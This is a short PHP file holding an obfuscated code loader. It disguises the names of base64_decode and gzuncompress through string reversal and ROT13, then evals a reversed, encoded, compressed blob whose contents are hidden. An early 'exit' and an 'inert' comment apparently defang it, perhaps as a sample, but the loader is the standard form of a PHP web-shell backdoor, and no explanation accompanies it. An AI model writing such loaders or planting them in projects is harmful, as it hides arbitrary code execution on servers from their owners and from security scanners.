<?php exit; /* inert */ 
$z = strrev('edoced_46esab'); $r = str_rot13('tmhapbzcerff');
eval($r($z(strrev("=MqDy0FAGcLUvC1VI7cTIdl0QHlLNt0SNh0VLj8UPhMVp+kyIJVLJl0zI3sTMlEyoI11TzJe"))));
